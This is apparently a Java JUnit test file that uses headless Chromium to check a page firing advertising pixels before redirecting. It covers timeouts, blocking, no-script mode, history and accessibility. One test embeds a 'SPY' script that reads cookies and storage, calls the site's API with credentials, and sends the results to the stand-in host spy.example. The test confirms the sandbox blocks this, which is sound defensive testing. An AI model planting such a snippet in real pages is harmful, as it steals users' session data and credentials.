package org.fingerpost.servlet.page;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import java.net.URLDecoder;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.concurrent.TimeUnit;
import java.util.function.Consumer;
import org.fingerpost.catalog.PixelType;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/** Pixels in a real browser, whose vendors are played by the test. */
final class BrowserPixelsTest {
  /** Keeps the page from going on by its timer. */
  private static final String NO_TIMER =
      "{ const timer = setTimeout; setTimeout = (run, millis) => millis === %d ? 0 : timer(run,"
              .formatted(PixelPage.TIMER_MILLIS)
          + " millis); }";

  /** Tells which timers the page sets. */
  private static final String TELL_TIMERS =
      "{ const timer = setTimeout; setTimeout = (run, millis) => { console.log('timer', millis);"
          + " return timer(run, millis); }; }";

  /** What the owner of a tag manager's container may want to find out. */
  private static final String SPY =
      """
      (async function () {
        const out = {origin: self.origin};
        function attempt(name, f) {
          try { out[name] = String(f()); } catch (e) { out[name] = e.name; }
        }
        attempt('cookie', () => { document.cookie = 'a=1; Path=/'; return document.cookie; });
        attempt('ownCookie', () =>
            Object.getOwnPropertyDescriptor(Document.prototype, 'cookie').get.call(document));
        attempt('storage', () => { localStorage.setItem('k', 7); return localStorage.getItem('k'); });
        attempt('code', () => eval('6 * 7'));
        try {
          out.fetch = await (await fetch('/api/v1/links', {credentials: 'include'})).text();
        } catch (e) { out.fetch = e.name; }
        new Image().src = 'https://spy.example/?' + encodeURIComponent(JSON.stringify(out));
      })();
      """;

  private static Chromium chromium;
  private static PageServer server;

  private final List<String> asked = new CopyOnWriteArrayList<>();
  private DevTools.Session tab;
  private String destination;

  @BeforeAll
  static void start() throws Exception {
    chromium = Chromium.start();
    server = new PageServer();
  }

  @AfterAll
  static void stop() throws Exception {
    if (chromium != null) {
      chromium.close();
      server.close();
    }
  }

  @BeforeEach
  void open() throws Exception {
    tab = chromium.open();
    tab.call("Page.enable");
    tab.call("Fetch.enable", Map.of("patterns", List.of(Map.of("urlPattern", "https://*"))));
    destination = server.origin("localhost") + "/there";
  }

  @AfterEach
  void close() throws Exception {
    tab.close();
  }

  @Test
  void page_goesOnThoughNoVendorEverAnswers() throws Exception {
    vendors(request -> {});
    tab.call("Runtime.enable");
    tab.call("Page.addScriptToEvaluateOnNewDocument", Map.of("source", TELL_TIMERS));
    goTo(page(PixelType.values()));
    awaitDestination();
    assertThat(asked).hasSize(PixelType.values().length);
    assertThat(tab.events("Runtime.consoleAPICalled"))
        .extracting(event -> event.path("args").path(1).path("value").asInt())
        .containsExactly(250);
    assertThat(PixelPage.MAX_MILLIS).isEqualTo(300);
  }

  @Test
  void page_goesOnWhenThePicturesHaveCome() throws Exception {
    noTimer();
    vendors(request -> fulfil(request, "image/gif", "no picture, and no matter"));
    goTo(page(PixelType.FACEBOOK, PixelType.QUORA));
    awaitDestination();
    assertThat(asked)
        .containsExactlyInAnyOrder(
            "https://www.facebook.com/tr?id=C0de-_FACEBOOK&ev=PageView&noscript=1",
            "https://q.quora.com/_/ad/C0de-_QUORA/pixel?tag=ViewContent&noscript=1");
  }

  @Test
  void page_goesOnWhenAllIsBlocked() throws Exception {
    noTimer();
    vendors(
        request ->
            tab.send(
                "Fetch.failRequest",
                Map.of("requestId", id(request), "errorReason", "BlockedByClient")));
    goTo(page(PixelType.values()));
    awaitDestination();
    assertThat(asked).hasSize(PixelType.values().length);
  }

  @Test
  void page_goesOnAtOnceWithoutScript() throws Exception {
    vendors(request -> {});
    tab.call("Emulation.setScriptExecutionDisabled", Map.of("value", true));
    goTo(page(PixelType.values()));
    awaitDestination();
    assertThat(asked).isEmpty();
  }

  @Test
  void page_isNotThereForTheWayBack() throws Exception {
    vendors(request -> {});
    goTo(page(PixelType.FACEBOOK));
    awaitDestination();
    JsonNode entries = tab.call("Page.getNavigationHistory").path("entries");
    assertThat(entries)
        .extracting(entry -> entry.path("url").asText())
        .containsExactly("about:blank", destination);
  }

  @Test
  void scriptOfAnOwner_reachesNothingOfThisHost() throws Exception {
    noTimer();
    CompletableFuture<String> told = new CompletableFuture<>();
    vendors(
        request -> {
          String url = url(request.path("request"));
          if (url.startsWith("https://spy.example/?")) {
            told.complete(url);
          } else {
            fulfil(request, "text/javascript", SPY);
          }
        });
    String page = page(PixelType.GOOGLE_TAG_MANAGER);
    tab.call(
        "Network.setCookie",
        Map.of("name", "session", "value", "secret", "url", server.origin("127.0.0.1")));
    goTo(page);
    String json =
        URLDecoder.decode(
            told.get(DevTools.SECONDS, TimeUnit.SECONDS)
                .substring("https://spy.example/?".length()),
            StandardCharsets.UTF_8);
    assertThat(DevTools.json(json))
        .isEqualTo(
            DevTools.json(
                """
                {"origin": "null", "cookie": "a=1", "ownCookie": "SecurityError",
                 "storage": "7", "code": "42", "fetch": "TypeError"}
                """));
  }

  @Test
  void page_isAccessible() throws Exception {
    noTimer();
    vendors(request -> {});
    goTo(page(PixelType.TIKTOK));
    tab.await("Page.domContentEventFired", event -> true);
    tab.evaluate(AxeCore.script() + ";0");
    assertThat(tab.evaluate(AxeCore.VIOLATIONS)).isEmpty();
  }

  private String page(PixelType... types) {
    return server.serve(new PixelPage(destination, TestPages.pixels(types).tags()), "en");
  }

  /** Says what becomes of requests to vendors; those that nothing is done with stay open. */
  private void vendors(Consumer<JsonNode> answer) {
    tab.on(
        "Fetch.requestPaused",
        request -> {
          asked.add(url(request.path("request")));
          answer.accept(request);
        });
  }

  private void fulfil(JsonNode request, String type, String body) {
    tab.send(
        "Fetch.fulfillRequest",
        Map.of(
            "requestId",
            id(request),
            "responseCode",
            200,
            "responseHeaders",
            List.of(Map.of("name", "Content-Type", "value", type)),
            "body",
            Base64.getEncoder().encodeToString(body.getBytes(StandardCharsets.UTF_8))));
  }

  private void noTimer() throws Exception {
    tab.call("Page.addScriptToEvaluateOnNewDocument", Map.of("source", NO_TIMER));
  }

  private void goTo(String url) throws Exception {
    tab.call("Page.navigate", Map.of("url", url));
  }

  private void awaitDestination() throws Exception {
    tab.await("Page.frameNavigated", event -> url(event.path("frame")).equals(destination));
  }

  private static String id(JsonNode request) {
    return request.path("requestId").asText();
  }

  private static String url(JsonNode node) {
    return node.path("url").asText();
  }
}
